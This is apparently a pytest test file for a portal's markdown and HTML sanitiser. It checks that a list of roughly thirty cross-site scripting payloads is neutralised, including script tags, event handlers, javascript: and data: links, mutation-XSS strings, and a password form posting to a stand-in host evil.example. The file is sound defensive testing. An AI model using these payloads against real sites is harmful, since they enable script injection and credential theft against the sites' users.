import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markupsafe import Markup

from portal.core import richtext
from portal.core.richtext import excerpt, foreign_html, foreign_plain, markdown, plain

ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="jAvAsCrIpT&colon;alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href=" &#14; javascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<p style="background:url(javascript:alert(1))" onclick=alert(1) class=menu id=main>x</p>',
    "<form action=//evil.example><input name=password><button formaction=//evil.example>x</button></form>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<object data=//evil.example></object><embed src=//evil.example><base href=//evil.example>",
    '<meta http-equiv=refresh content="0;url=//evil.example"><link rel=stylesheet href=//evil.example>',
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<xss onpointerover=alert(1) tabindex=1>x</xss>",
    "<title><img src=x onerror=alert(1)></title><textarea><img src=x onerror=alert(1)></textarea>",
    "[x](javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](javascript&colon;alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    '![x](x" onerror="alert(1))',
    '[x](https://a.example/"onmouseover="alert(1))',
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    '```"><script>alert(1)</script>\nx\n```',
    "`<img src=x onerror=alert(1)>`",
    "| <script> | a |\n|---|---|\n| <img src=x onerror=alert(1)> | b |",
]


class Reader(HTMLParser):
    """Collects what a browser would act on."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[str] = set()
        self.addresses: list[str] = []
        self.feed(str(html))

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes |= {name for name, _ in attrs}
        self.addresses += [value or "" for name, value in attrs if name == "href"]


def is_harmless(html: str) -> bool:
    seen = Reader(html)
    return (
        seen.tags <= richtext.TAGS
        and seen.attributes <= {"href", "rel", "title", "lang", "start", "scope"}
        and all(re.match(r"https?:|mailto:|[/#?](?![/\\])", address) for address in seen.addresses)
    )


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("render", [markdown, foreign_html])
def test_an_attack_becomes_harmless(render, attack):
    assert is_harmless(render(attack))


@given(
    st.lists(st.sampled_from([*ATTACKS, "<", ">", '"', "'", "[a](", ")", "`", "\n", "&", "</p>", "<!--"]), max_size=6)
)
def test_no_mixture_of_attacks_gets_through(parts):
    text = "".join(parts)
    assert is_harmless(markdown(text))
    assert is_harmless(foreign_html(text))


def test_the_result_is_markup_that_a_template_will_not_escape_again():
    assert isinstance(markdown("*x*"), Markup)
    assert isinstance(foreign_html("<em>x</em>"), Markup)


def test_markdown_keeps_its_signs_and_shows_tags_as_text():
    assert markdown("**bold** and <b>tag</b>") == "<p><strong>bold</strong> and &lt;b&gt;tag&lt;/b&gt;</p>\n"


def test_headings_begin_at_the_third_level_and_end_at_the_sixth():
    assert markdown("# one\n\n## two\n\n###### six") == "<h3>one</h3>\n<h4>two</h4>\n<h6>six</h6>\n"
    assert markdown("# one", top=2) == "<h2>one</h2>\n"
    assert foreign_html("<h1 class=x>one</h1><h2>two</h2>") == "<h3>one</h3><h4>two</h4>"


def test_a_link_to_another_site_is_marked_and_one_to_ours_is_not():
    assert markdown("[a](https://a.example/)") == (
        '<p><a href="https://a.example/" rel="noopener nofollow">a</a></p>\n'
    )
    assert markdown("[a](/da/projekter#top)") == '<p><a href="/da/projekter#top">a</a></p>\n'


@pytest.mark.parametrize("address", ["//evil.example", "ftp://a.example", "page", "\\\\evil.example"])
def test_other_addresses_lose_their_link_and_keep_their_words(address):
    shown = markdown(f"[words]({address})")
    assert "href" not in shown
    assert "words" in shown


def test_an_address_is_not_made_a_link_by_itself():
    assert "<a" not in markdown("see https://a.example and mail x@a.example")


def test_a_picture_becomes_its_words():
    assert markdown("![A <pump>](https://a.example/p.png)") == "<p>A &lt;pump&gt;</p>\n"


def test_header_cells_say_what_they_head():
    assert '<th scope="col">a</th>' in markdown("|a|b|\n|-|-:|\n|1|2|")


def test_foreign_html_keeps_no_picture_and_no_relative_link():
    shown = foreign_html('<p><img src="https://a.example/x.png" alt="x"><a href="/news">a</a><a href="#b">b</a></p>')
    assert "img" not in shown
    assert "href" not in shown


def test_foreign_links_cannot_choose_their_own_relation():
    shown = foreign_html('<a href="https://a.example" rel="opener me" target="_blank">a</a>')
    assert shown == '<a href="https://a.example" rel="noopener nofollow">a</a>'


def test_foreign_html_nested_without_end_is_cut_and_closed():
    shown = foreign_html("<p>kept</p>" + "<blockquote>" * 200_000 + "lost")
    assert shown.startswith("<p>kept</p>")
    assert "lost" not in shown
    assert shown.count("<blockquote>") == shown.count("</blockquote>") < richtext.MAX_FOREIGN_TAGS


def test_plain_text_of_markdown_is_its_words():
    text = "# Title\n\nOne *two*\n`three`\n\n- [four](https://a.example)\n- ![five](x.png)\n\n```\nsix\n```\n\n<b>&amp;"
    assert plain(text) == "Title\nOne two three\nfour\nfive\nsix\n<b>&"


def test_plain_text_of_foreign_html_keeps_words_apart():
    html = "<h1>Title</h1><p>one<br>two &amp; &lt;b&gt;</p><script>no()</script><p>three</p>"
    assert foreign_plain(html) == "Title one two & <b> three"


def test_an_excerpt_is_cut_between_words():
    assert excerpt("*one* two three", 10) == "one two…"
    assert excerpt("one two", 7) == "one two"
    assert excerpt("unbreakable", 6) == "unbre…"


@given(st.text(), st.integers(min_value=1, max_value=300))
def test_an_excerpt_is_never_longer_than_asked(text, limit):
    assert len(excerpt(text, limit)) <= limit
